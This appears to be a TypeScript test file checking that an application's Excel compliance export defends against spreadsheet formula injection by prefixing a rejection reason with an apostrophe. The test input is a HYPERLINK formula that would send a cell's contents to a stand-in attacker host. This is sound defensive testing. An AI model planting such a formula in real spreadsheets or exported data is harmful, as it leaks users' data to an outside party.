import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { authHeaders, createTestApp, CONTRACTOR_A, REVIEWER } from '../../test/app';
import { empresaId, requisito, uploadSgSst } from '../../test/revision';

/** Formula injection in the server's compliance export (docs/decisions/161). */
describe('compliance export: a rejection reason that starts like a formula', async () => {
  const app = await createTestApp();
  const [A, R] = [await authHeaders(app, CONTRACTOR_A), await authHeaders(app, REVIEWER)];
  const a = await empresaId(app, '900123456');

  it('is written with a leading apostrophe; the counts stay numbers', async () => {
    const motivo = '=HYPERLINK("http://atacante.example/?x="&A1,"Ver")';
    const entrega = await uploadSgSst(app, A, await requisito(app, 'sg-sst', 'E04'));
    const rejected = await app.inject({
      method: 'POST',
      url: `/api/revision/entregas/${entrega}/rechazar`,
      headers: R,
      payload: { observacion: motivo },
    });
    expect(rejected.statusCode, rejected.body).toBe(200);
    const res = await app.inject({
      method: 'GET',
      url: `/api/revision/cumplimiento/excel?empresaId=${a}`,
      headers: R,
    });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const detalle = wb.getWorksheet('Detalle')!;
    const headers = (detalle.getRow(1).values as unknown[]).slice(1);
    const motivos: unknown[] = [];
    detalle.eachRow((row, n) => {
      if (n > 1) motivos.push(row.getCell(headers.indexOf('Motivo de rechazo') + 1).value);
    });
    expect(motivos).toContain(`'${motivo}`);
    expect(motivos).not.toContain(motivo);
    const resumen = wb.getWorksheet('Resumen')!;
    const aplicables = resumen
      .getRow(2)
      .getCell(((resumen.getRow(1).values as unknown[]).slice(1) as string[]).indexOf('Aplicables') + 1);
    expect(typeof aplicables.value).toBe('number');
  });
});
